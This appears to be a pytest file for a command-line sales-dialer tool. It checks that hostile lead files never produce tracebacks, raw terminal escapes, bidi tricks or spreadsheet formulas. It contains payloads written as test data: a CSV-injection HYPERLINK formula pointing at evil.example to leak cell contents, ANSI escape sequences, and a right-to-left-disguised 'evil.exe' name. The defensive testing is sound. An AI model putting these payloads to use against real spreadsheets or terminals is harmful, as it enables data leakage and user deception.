"""Bad input: every file of tests/fixtures/bad (and a few big ones made here) goes
through import, a session and both exports. Each ends in a clear sentence or is
handled; nothing prints a traceback, a raw control sequence or a formula."""

from __future__ import annotations

import csv
import json
import os
import re
import select
import shutil
import time
from datetime import datetime
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from dialsmile.cli import cli
from dialsmile.config import Clock, Settings
from dialsmile.core.models import Outcome
from dialsmile.core.scripts import load_script
from dialsmile.core.session import CallSession
from dialsmile.storage.db import open_db
from dialsmile.storage.leads import LeadStore
from dialsmile.storage.stores import open_stores
from dialsmile.ui.app import make_app
from tests.cli.test_terminal_session import Terminal, dialsmile, env_for
from tests.conftest import FIXTURES, NOW

pytestmark = pytest.mark.sqlite_only(
    "hostile files through the reader and the screens, each on a SQLite file of its own"
)

BAD = FIXTURES / "bad"
# Escape, C0/C1 controls (newline and tab aside) and bidi overrides never reach a terminal raw.
# What a spreadsheet runs as a formula, as a user states it (not the exporter's constants):
# a cell starting with = + - @, a tab or a carriage return, unless it is a plain number.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?\d[\d ().-]*$")
RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
REFUSED = {
    "spreadsheet.xlsx": "is damaged or not a workbook",
    "random-binary.csv": "not a CSV file or a workbook",
    "zero-bytes.csv": "is empty",
    "nul-bytes.csv": "not a CSV file or a workbook",
    "only-header.csv": "header but no rows",
    "single-200mb-line.csv": "longer than",
}


def big_files(tmp: Path) -> list[Path]:
    line = tmp / "single-200mb-line.csv"
    with line.open("wb") as f:
        block = b"A" * (1 << 20)
        for _ in range(200):
            f.write(block)
    wide = tmp / "ten-thousand-columns.csv"
    header = ["Name", "Phone", *(f"Col {n}" for n in range(9_998))]
    row = ["Wide Lead", "+1 512 555 0140", *(f"v{n}" for n in range(9_998))]
    wide.write_text(",".join(header) + "\n" + ",".join(row) + "\n", encoding="utf-8")
    return [line, wide]


def corpus(tmp: Path) -> list[Path]:
    return [*sorted(BAD.iterdir()), *big_files(tmp)]


def clean(result: Result) -> None:
    text = result.stdout + result.stderr
    assert "Traceback" not in text and "internal error" not in text, text[:500]
    assert not RAW_CONTROL.search(text), repr(text[:500])
    assert result.exception is None or isinstance(result.exception, SystemExit)


# What a spreadsheet runs as a formula, and the numbers an export leaves bare.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"^[+-]?\d[\d\s().-]*$")


def assert_no_formula(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        for value in row.values():
            if value and value.startswith(FORMULA_START):
                assert PLAIN_NUMBER.match(value), value
    return rows


def test_every_bad_file_through_import_session_and_export(tmp_path: Path) -> None:
    db_path = tmp_path / "bad.db"
    runner = CliRunner()
    imported: list[str] = []
    for path in corpus(tmp_path):
        name = path.stem
        result = runner.invoke(cli, ["--db", str(db_path), "import", str(path), "--list", name])
        clean(result)
        if path.name in REFUSED:
            assert result.exit_code == 2, (path.name, result.output)
            assert result.stderr.count("\n") == 1 and REFUSED[path.name] in result.stderr
        else:
            assert result.exit_code == 0, (path.name, result.stderr)
            imported.append(name)
        if path.parent == tmp_path:
            path.unlink()
    assert len(imported) == len(list(BAD.iterdir())) - 5 + 1

    db = open_db(db_path)
    store = LeadStore(db)
    for name in imported:
        session = CallSession(
            open_stores(db),
            store.get_list(name),
            Settings(),
            Clock(datetime.fromisoformat(NOW)),
            script=load_script("saas-discovery"),
        )
        assert session.advance() is not None, name
        session.record(Outcome.NO_ANSWER)
        out = tmp_path / f"{name}-session.csv"
        result = runner.invoke(
            cli,
            ["--db", str(db_path), "export", "session", str(session.session_id), "-o", str(out)],
        )
        clean(result)
        assert len(assert_no_formula(out)) == 1
        for command in (["leads", "--list", name], ["lists"], ["imports"]):
            clean(runner.invoke(cli, ["--db", str(db_path), *command]))
    leads = tmp_path / "leads.csv"
    clean(runner.invoke(cli, ["--db", str(db_path), "export", "leads", "-o", str(leads)]))
    rows = assert_no_formula(leads)
    names = {r["name"] for r in rows}
    assert '\'=HYPERLINK("http://evil.example/?"&A1;"click") +SUM(1;2)' in names
    # Data kept as it was, but for the invisible BEL (U+0007) that exports leave out.
    assert "\x1b[31mRed\x1b[0m \x1b]0;pwned titleLee" in names


async def test_the_session_screen_shows_hostile_text_literally(tmp_path: Path) -> None:
    text = "".join(
        (BAD / name).read_text(encoding="utf-8").splitlines(keepends=True)[1]
        for name in ("ansi-escapes.csv", "markup.csv", "right-to-left.csv", "emoji.csv")
    )
    source = tmp_path / "hostile.csv"
    source.write_text("First Name,Last Name,Company,Phone,Notes\n" + text, encoding="utf-8")
    db_path = tmp_path / "hostile.db"
    result = CliRunner().invoke(cli, ["--db", str(db_path), "import", str(source), "--list", "H"])
    assert result.exit_code == 0, result.output
    db = open_db(db_path)
    session = CallSession(
        open_stores(db), LeadStore(db).get_list("H"), Settings(), Clock(datetime.fromisoformat(NOW))
    )
    app = make_app(session, "America/Chicago")
    seen: list[str] = []
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        for _ in range(4):
            seen.append(app.export_screenshot())
            await pilot.press("a")
            await pilot.pause()
    shown = "\n".join(seen).replace("&#160;", " ")
    assert "[bold&#160;red]Eve[/]" in "\n".join(seen) or "[bold red]Eve[/]" in shown
    for raw in ("\x1b", "\x9b", "\u202e", "\u2067"):
        assert raw not in shown


def test_a_terminal_never_receives_the_leads_escape_sequences(tmp_path: Path) -> None:
    db_path = tmp_path / "pty.db"
    source = tmp_path / "hostile.csv"
    shutil.copy(BAD / "ansi-escapes.csv", source)
    with source.open("a", encoding="utf-8") as f:
        f.write((BAD / "right-to-left.csv").read_text(encoding="utf-8").splitlines()[1] + "\n")
    result = CliRunner().invoke(cli, ["--db", str(db_path), "import", str(source), "--list", "H"])
    assert result.exit_code == 0, result.output
    term = Terminal(dialsmile("session", "--list", "H"), env_for(db_path))
    term.wait_for("Red")
    term.keys("a")
    term.wait_for("evil.exe")
    term.keys("q")
    read_to_end(term)
    assert term.close() == 0
    for raw in (b"\x1b[31mRed", b"\x1b]0;pwned", b"\x1b[2J\x1b[HClear", "\u202e".encode()):
        assert raw not in term.log
    assert "\u202eevil".encode() not in term.log


def read_to_end(term: Terminal) -> None:
    """Keep reading the terminal until the child closes it, so it never blocks on output."""
    end = time.monotonic() + 30
    while time.monotonic() < end:
        if select.select([term.master], [], [], 0.2)[0]:
            try:
                data = os.read(term.master, 65536)
            except OSError:
                return
            if not data:
                return
            term.log += data


@pytest.mark.parametrize("name", ["ansi-escapes.csv", "right-to-left.csv", "markup.csv"])
def test_import_messages_show_control_characters_as_visible_codes(
    tmp_path: Path, name: str
) -> None:
    source = tmp_path / f"\x1b[31m{name}"
    shutil.copy(BAD / name, source)
    result = CliRunner().invoke(
        cli, ["--db", str(tmp_path / "m.db"), "import", str(source), "--list", "\x1b[1mL\u202e"]
    )
    clean(result)
    assert "\\x1b" in result.stdout


# The text of each lead exactly as the file writes it, typed by hand: (name, company, notes).
STORED = {
    "emoji.csv": [
        (
            "\U0001f600 Zoë \U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 Family",
            "\U0001f3e2 Co™",
            "\U0001f525\U0001f525 ZWJ e\u0301 combining",
        )
    ],
    "right-to-left.csv": [
        (
            "محمد \u202eevil.exe\u202c",
            "شركة الأمل",
            "\u2067isolate\u2069 עברית",
        )
    ],
    "mixed-encodings.csv": [
        ("Åsa Lund", "Café AB", "utf-8 row"),
        ("Søren Berg", "Brød ApS", "cp1252 row"),
    ],
}


def stored_leads(tmp_path: Path, name: str) -> list[tuple[str, str, str]]:
    db = str(tmp_path / "stored.db")
    runner = CliRunner()
    result = runner.invoke(cli, ["--db", db, "import", str(BAD / name), "--list", name])
    assert result.exit_code == 0, result.stderr
    listed = runner.invoke(cli, ["--db", db, "leads", "--list", name, "--json"])
    assert listed.exit_code == 0, listed.stderr
    return [(r["name"], r["company"], r["notes"]) for r in json.loads(listed.stdout)]


@pytest.mark.parametrize("name", ["emoji.csv", "right-to-left.csv"])
def test_emoji_and_right_to_left_text_is_stored_as_written(tmp_path: Path, name: str) -> None:
    assert stored_leads(tmp_path, name) == STORED[name]


def test_a_file_mixing_utf8_and_cp1252_lines_keeps_both_as_written(tmp_path: Path) -> None:
    assert stored_leads(tmp_path, "mixed-encodings.csv") == STORED["mixed-encodings.csv"]
